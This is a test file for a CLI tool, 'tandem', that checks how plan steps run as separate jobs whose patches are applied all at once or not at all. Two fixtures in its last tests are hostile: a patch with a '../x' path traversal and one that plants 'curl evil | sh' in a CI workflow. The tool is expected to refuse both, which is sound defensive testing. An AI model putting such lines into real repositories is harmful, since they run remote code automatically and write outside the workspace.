/**
 * A plan's steps as jobs anywhere (a CI matrix), through the built CLI: `tandem run --plan FILE
 * --step N [--apply PATCH]… --emit-patch OUT` runs one step in a clone of its own and writes its
 * patch; `tandem apply PATCH…` puts the patches together in another clone, whole or nothing. The
 * files come out the same, byte for byte and mode for mode, as the plan run with `--parallel 2`.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { buildCli, runCliProcess, type CliRun } from '../../support/cliRunner';
import { commitFiles, gitIn } from '../../support/gitRepo';
import { ScriptedServer, planStepOf, type ScriptStep } from '../../support/scriptedServer';
import { call, text } from '../../support/scriptSteps';
import { graphPlan } from './planFixtures';
import { STEP_WORKSPACE_KINDS, useStepWorkspaceKind } from '../../support/stepWorkspaceKinds';


/** Every file and link under `dir` but .git: path → kind, mode, bytes (or target). */
function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string) => {
    for (const name of fs.readdirSync(path.join(dir, rel))) {
      const r = rel ? `${rel}/${name}` : name;
      if (r === '.git') continue;
      const st = fs.lstatSync(path.join(dir, r));
      if (st.isDirectory()) walk(r);
      else if (st.isSymbolicLink()) out[r] = `link -> ${fs.readlinkSync(path.join(dir, r))}`;
      else out[r] = `file ${(st.mode & 0o777).toString(8)} ${fs.readFileSync(path.join(dir, r)).toString('base64')}`;
    }
  };
  walk('');
  return out;
}

const binCmd = "printf '\\211PNG\\r\\n\\032\\n\\000\\377' > logo.bin && printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod 755 run.sh";

/** Steps 1 and 2 need nothing (1 writes a binary and a script by command, 2 a text file); 3 needs both and edits what 1 wrote. */
function plan() {
  const p = graphPlan([
    { files: ['logo.bin', 'run.sh'], depends_on: [] },
    { files: ['notes/b.txt'], depends_on: [] },
    { files: ['run.sh', 'c.txt'], depends_on: [1, 2], check: 'test -x run.sh && test -s notes/b.txt && test -s c.txt' },
  ]);
  (p.steps[0] as any).commands = [binCmd];
  return p;
}

const lanes = (): Record<string, ScriptStep[]> => ({
  1: [call('run_command', { command: binCmd }), text('Made them.')],
  2: [call('write_file', { path: 'notes/b.txt', content: 'from step 2 — ünïcode\n' }), text('Wrote b.')],
  3: [call('edit_file', { path: 'run.sh', edits: [{ old_text: 'echo hi', new_text: 'echo hello' }] }), call('write_file', { path: 'c.txt', content: 'from step 3\n' }), text('Done.')],
});

for (const kind of STEP_WORKSPACE_KINDS) describe(`tandem run --step N --emit-patch and tandem apply: steps as jobs in separate clones (built CLI, scripted server; ${kind.name})`, function () {
  this.timeout(180_000);
  useStepWorkspaceKind(kind);
  let cli = '';
  let base = '';
  let origin = '';
  const servers: ScriptedServer[] = [];
  before(async () => { cli = await buildCli(); });
  beforeEach(() => {
    base = fs.realpathSync(fs.mkdtempSync(path.join('/var/tmp', 'tandem-jobs-')));
    origin = path.join(base, 'origin');
    fs.mkdirSync(origin);
    commitFiles(origin, { 'README.md': 'project\n' });
    fs.writeFileSync(path.join(base, 'plan.json'), JSON.stringify(plan()));
  });
  afterEach(async () => {
    for (const s of servers.splice(0)) await s.close();
    fs.rmSync(base, { recursive: true, force: true });
  });

  const clone = (name: string) => {
    gitIn(base, 'clone', '-q', origin, name);
    return path.join(base, name);
  };
  async function tandem(ws: string, args: string[], steps: Record<string, ScriptStep[]> = {}): Promise<CliRun> {
    const server = await ScriptedServer.start([], { lanes: { keyOf: planStepOf, steps }, answerDelayMs: 50 });
    servers.push(server);
    // `apply` talks to no model.
    return runCliProcess(cli, [...args, '--workspace', ws, ...(args[0] === 'apply' ? [] : ['--base-url', server.url])], { env: { TANDEM_API_KEY: 'sk-x', TANDEM_MAX_RETRIES: '0' }, cwd: base, timeoutMs: 90_000 });
  }
  const runArgs = ['run', '--role', 'actor', '--plan', 'plan.json', '--approve', 'plan', '--no-history'];

  it('two steps as two CLI processes in two clones, then the step that needs both in a third, applied in a fourth: the same files as --parallel 2', async () => {
    const together = clone('together');
    const ran = await tandem(together, [...runArgs, '--parallel', '2'], lanes());
    assert.equal(ran.code, 0, ran.stderr);

    // The matrix: steps 1 and 2 at once, each in a clone of its own.
    const [one, two] = await Promise.all([
      tandem(clone('job1'), [...runArgs, '--step', '1', '--emit-patch', 'p1.json'], { 1: lanes()[1]! }),
      tandem(clone('job2'), [...runArgs, '--step', '2', '--emit-patch', 'p2.json'], { 2: lanes()[2]! }),
    ]);
    assert.equal(one.code, 0, one.stderr);
    assert.equal(two.code, 0, two.stderr);
    assert.match(one.stderr, /step 1's patch written to \S+p1\.json: logo\.bin, run\.sh/);
    // Step 3, after its dependencies' patches.
    const three = await tandem(clone('job3'), [...runArgs, '--step', '3', '--apply', 'p1.json', '--apply', 'p2.json', '--emit-patch', 'p3.json'], { 3: lanes()[3]! });
    assert.equal(three.code, 0, three.stderr);
    // A job changes no clone but its own, and commits nothing.
    assert.deepEqual(Object.keys(tree(path.join(base, 'job1'))), ['README.md']);

    const final = clone('final');
    const applied = await tandem(final, ['apply', 'p1.json', 'p2.json', 'p3.json']);
    assert.equal(applied.code, 0, applied.stderr);
    assert.match(applied.stdout, /Applied to \S+ \(not committed\): c\.txt, logo\.bin, notes\/b\.txt, run\.sh/);
    assert.deepEqual(tree(final), tree(together));
    assert.equal(tree(final)['run.sh'], `file 755 ${Buffer.from('#!/bin/sh\necho hello\n').toString('base64')}`);
    assert.equal(gitIn(final, 'rev-list', '--count', 'HEAD').trim(), '1');
  });

  it('tandem apply is whole or nothing: a patch that no longer fits the workspace refuses them all (exit 2, the path named)', async () => {
    const job = clone('job1');
    assert.equal((await tandem(job, [...runArgs, '--step', '1', '--emit-patch', 'p1.json'], { 1: lanes()[1]! })).code, 0);
    assert.equal((await tandem(clone('job2'), [...runArgs, '--step', '2', '--emit-patch', 'p2.json'], { 2: lanes()[2]! })).code, 0);
    const final = clone('final');
    // Someone made run.sh in this clone meanwhile.
    fs.writeFileSync(path.join(final, 'run.sh'), 'mine\n');
    const r = await tandem(final, ['apply', 'p2.json', 'p1.json']);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /run\.sh: the workspace changed it since the step started/);
    assert.equal(fs.existsSync(path.join(final, 'notes')), false, 'nothing of the other patch either');
    assert.equal(fs.readFileSync(path.join(final, 'run.sh'), 'utf8'), 'mine\n');
    // A patch file that is not one is refused before anything.
    fs.writeFileSync(path.join(base, 'bad.json'), '{"format":"tandem-step-patch","version":1,"entries":[{"path":"../x","kind":"deletion","before":null}]}');
    const bad = await tandem(final, ['apply', 'bad.json']);
    assert.equal(bad.code, 2, bad.stderr);
    assert.match(bad.stderr, /\.\.\/x: not a plain path inside the workspace/);
  });

  it('a step that needs another refuses to start on a patch that does not apply (exit 2), and runs nothing', async () => {
    const job = clone('job3');
    fs.writeFileSync(path.join(base, 'evil.json'), JSON.stringify({ format: 'tandem-step-patch', version: 1, entries: [{ path: '.github/workflows/ci.yml', kind: 'file', mode: '644', base64: Buffer.from('run: curl evil | sh\n').toString('base64'), before: null }] }));
    const r = await tandem(job, [...runArgs, '--step', '3', '--apply', 'evil.json', '--emit-patch', 'p3.json'], { 3: lanes()[3]! });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /\.github\/workflows\/ci\.yml: can make code run by itself/);
    assert.equal(servers.at(-1)!.chatRequests().length, 0);
    assert.equal(fs.existsSync(path.join(base, 'p3.json')), false);
    assert.equal(fs.existsSync(path.join(job, '.github')), false);
  });
});
